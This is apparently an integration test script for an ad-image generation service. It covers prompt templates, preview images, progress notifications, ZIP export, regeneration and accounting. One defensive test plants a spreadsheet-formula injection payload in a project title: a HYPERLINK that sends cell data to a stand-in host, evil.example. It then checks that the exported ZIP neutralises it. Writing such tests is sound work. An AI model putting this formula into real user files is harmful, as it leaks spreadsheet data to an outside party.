#!/usr/bin/env bash
# The whole offline flow with the real worker: template prompt, preview images, progress over
# LISTEN, bytes and thumbnails, ZIP download, accounting.
set -euo pipefail
source "$(dirname "$0")/lib/worker_env.sh"
worker_env_up

p=$(new_project OUT PARK WALK JOY UGC "")
q -c "SELECT rolloy.generate_prompt('$p', 'template')" >/dev/null
check "template prompt saved with provider and zero cost" \
    "$(q -c "SELECT prompt_provider || '/' || prompt_model || '/' || prompt_cost_usd FROM rolloy.creative_projects WHERE id = '$p'")" \
    "template/template-v1/0.000000"

python3 "$ROLLOY_ROOT/scripts/listen_progress.py" --port "$PGPORT" --db "$WDB" --project "$p" --timeout 60 >"$TMP/listen.out" &
listener=$!
# Queue only once the LISTEN is in force (listen_progress.py prints the line after it is).
for _ in $(seq 100); do grep -q '^listening' "$TMP/listen.out" 2>/dev/null && break; sleep 0.1; done
grep -q '^listening' "$TMP/listen.out" || fail "the listener did not start: $(cat "$TMP/listen.out")"
q -c "SET ROLE postgres; SELECT count(*) FROM rolloy.batch_generate('$p', '{\"variants\": 3, \"seed\": 42}')" >/dev/null
wait_for "SELECT completed_images = 3 FROM rolloy.creative_projects WHERE id = '$p'" 60 "3 preview images"
wait "$listener" || fail "listener did not see the batch finish: $(cat "$TMP/listen.out")"
check "LISTEN saw every image complete" "$(grep -c 'completed' "$TMP/listen.out")" "3"

check "seeds recorded and consecutive" "$(q -c "SELECT string_agg(seed::text, ',' ORDER BY variant_no) FROM rolloy.generated_images WHERE project_id = '$p'")" "42,43,44"
check "ad names are project name + variant" "$(q -c "SELECT bool_and(ad_name = p.generated_name || '_V0' || variant_no) FROM rolloy.generated_images g JOIN rolloy.creative_projects p ON p.id = g.project_id WHERE p.id = '$p'")" "t"
check "images are 4:5 progressive JPEGs" "$(q -c "SELECT string_agg(DISTINCT width || 'x' || height, ',') FROM rolloy.generated_images WHERE project_id = '$p'")" "819x1024"
id=$(q -c "SELECT id FROM rolloy.generated_images WHERE project_id = '$p' ORDER BY variant_no LIMIT 1")
q -c "SELECT encode(rolloy.image('$id'), 'base64')" | base64 -d >"$TMP/v1.jpg"
q -c "SELECT encode(rolloy.thumbnail('$id'), 'base64')" | base64 -d >"$TMP/t1.jpg"
check "stored bytes match the recorded sha256" "$(sha256sum "$TMP/v1.jpg" | cut -c1-64)" "$(image_field "$id" sha256)"
check "thumbnail is 300x300" "$(vipsheader -f width "$TMP/t1.jpg")x$(vipsheader -f height "$TMP/t1.jpg")" "300x300"
check "distinct seeds give distinct images" "$(q -c "SELECT count(DISTINCT sha256) FROM rolloy.generated_images WHERE project_id = '$p'")" "3"

q -c "SELECT encode(rolloy.project_zip('$p'), 'base64')" | base64 -d >"$TMP/project.zip"
check "ZIP holds the three images under their ad names" "$(unzip -Z1 "$TMP/project.zip" | sed 's/^[0-9]*_//' | sort | tr '\n' ' ')" \
    "OUT_PARK_WALK_JOY_UGC_V01.jpg OUT_PARK_WALK_JOY_UGC_V02.jpg OUT_PARK_WALK_JOY_UGC_V03.jpg "
unzip -tq "$TMP/project.zip" >/dev/null || fail "ZIP does not test clean"

# Spreadsheet formulas in user text (issue 11): a hostile project title and notes never come out
# of the ZIP as a formula — no entry name starts one, and any CSV inside (none today) has its
# formula-leading cells neutralised (src/core/common/csv_cell.hpp).
q -c "UPDATE rolloy.creative_projects SET title = \$\$=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")\$\$,
             notes = '@SUM(1+1)' WHERE id = '$p'"
q -c "SELECT encode(rolloy.project_zip('$p'), 'base64')" | base64 -d >"$TMP/hostile.zip"
check "a hostile title starts no formula in the ZIP" "$(python3 - "$TMP/hostile.zip" <<'PY'
import csv, io, sys, zipfile
lead = tuple("=+-@\t\r\0")
bad = []
with zipfile.ZipFile(sys.argv[1]) as z:
    for name in z.namelist():
        if name.startswith(lead) or name.split("/")[-1].startswith(lead):
            bad.append("entry " + name)
        if name.lower().endswith(".csv"):
            for row in csv.reader(io.StringIO(z.read(name).decode("utf-8-sig"))):
                bad += [f"{name}: {cell}" for cell in row if cell.startswith(lead)]
        elif not name.lower().endswith(".jpg") or b"=HYPERLINK" in z.read(name):
            bad.append("unexpected content in " + name)
print("; ".join(bad) or "none")
PY
)" "none"

# Regenerating keeps the old image and adds a variant.
q -c "SELECT rolloy.regenerate_image('$id', 7)" >/dev/null
wait_for "SELECT completed_images = 4 FROM rolloy.creative_projects WHERE id = '$p'" 30 "regenerated variant"
check "regenerated image is variant 4 with its own seed" "$(q -c "SELECT variant_no || ':' || seed FROM rolloy.generated_images WHERE project_id = '$p' ORDER BY variant_no DESC LIMIT 1")" "4:7"
check "usage: one logged call per image plus the prompt" "$(q -c "SELECT count(*) FROM rolloy.api_usage_logs WHERE project_id = '$p'")" "5"
check "progress view" "$(q -c "SELECT total || '/' || completed || '/' || percent_done FROM rolloy.generation_progress WHERE project_id = '$p'")" "4/4/100.0"
check "worker counted its work" "$(q -c "SELECT completed >= 4 FROM rolloy.worker_status()")" "t"
check_invariants

# Deleting images deletes their stored bytes with them.
check "four images stored for the project" "$(q -c "SELECT count(*) FROM rolloy.image_store WHERE storage_ref LIKE 'db:generated/$p/%'")" "4"
q -c "DELETE FROM rolloy.generated_images WHERE id = '$id'" >/dev/null
check "a deleted image's bytes are gone" "$(q -c "SELECT count(*) FROM rolloy.image_store WHERE storage_ref LIKE 'db:generated/$p/$id'")" "0"
check "the other images keep theirs" "$(q -c "SELECT count(*) FROM rolloy.image_store WHERE storage_ref LIKE 'db:generated/$p/%'")" "3"
echo "worker_preview: ok"
